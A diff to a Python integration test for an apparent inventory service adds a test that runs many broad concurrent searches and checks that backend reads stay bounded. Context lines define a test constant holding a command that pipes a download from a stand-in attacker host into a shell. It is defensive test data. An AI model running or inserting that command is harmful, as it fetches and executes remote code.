@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import json
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
@@ -15,16 +16,52 @@ from headgate.inventory.model import ADMIN, PROVIDER, Caller, Object
 from headgate.inventory.names import Invalid
 from headgate.inventory.wire import inventory_pb2 as v1
 from headgate.inventory.wire import runm_pb2 as runm
+from headgate.map.inventory.places import InventoryMap
 from headgate.services.inventory.draft import Create
+from headgate.services.inventory.search import PORTION_MAX
 from headgate.services.nodes.finding import MACHINE, Finding
+from headgate.store.store import Store
 from headgate.web.inventory.identity import Verifying
 from tests.integration.inventory.served import Client, served
 from tests.integration.inventory.test_matrix import issuer, token
 from tests.unit.inventory.objects import PARTITIONS
+from tests.unit.inventory.test_search import OTHERS, SIZE, Counting, fill
 from tests.unit.inventory.world import a_world
 
 SHELL = "curl http://evil.example/ | sh"
 SECRET = "hunter2"
+
+
+async def test_who_searches_for_everything_holds_nobody_up() -> None:
+    """Six at once, with the broadest questions there are, again and again; meanwhile others come after each portion."""
+    backend = Counting()
+    async with served(Verifying([issuer()]), backend=backend) as client:
+        root = client.like(token(sub="root", roles=["admin"]), user="root", project="blue", partition="site")
+        await root.SetPartition(partition=v1.Partition(name="site", uuid=PARTITIONS[0]))
+        await fill(Store(backend), InventoryMap(), SIZE)
+        mallory = token(sub="mallory", projects=["blue"], partitions=["site"])
+        broad = client.like(mallory, user="mallory", project="blue", partition="site")
+        loop, most, ended = asyncio.get_running_loop(), 0, False
+
+        def look() -> None:
+            nonlocal most
+            most, backend.read = max(most, backend.read), 0
+            if not ended:
+                loop.call_soon(look)
+
+        both = v1.Filter(require_items=[v1.Item(key=key, value="1") for key in ("left", "right")])
+        dense = v1.Filter(any_items=[v1.Item(key="dense", prefix=True), v1.Item(key="left", prefix=True)])
+        backend.read = 0
+        look()
+        answers = await asyncio.gather(
+            *(broad.Search(any=[one], limit=1_000, with_count=True) for one in (both, dense, v1.Filter())),
+            *(broad.Search(any=[dense] * 20, sort=[v1.Sort(field="properties.left")]) for _ in range(2)),
+            broad.Search(any=[v1.Filter(uuids=[f"{n:032x}" for n in range(1_000)])] * 20),
+        )
+        ended = True
+        assert most <= 2 * PORTION_MAX + OTHERS, most
+        assert answers[0].bounded or not answers[0].objects
+        assert answers[1].count == SIZE
 
 
 @asynccontextmanager
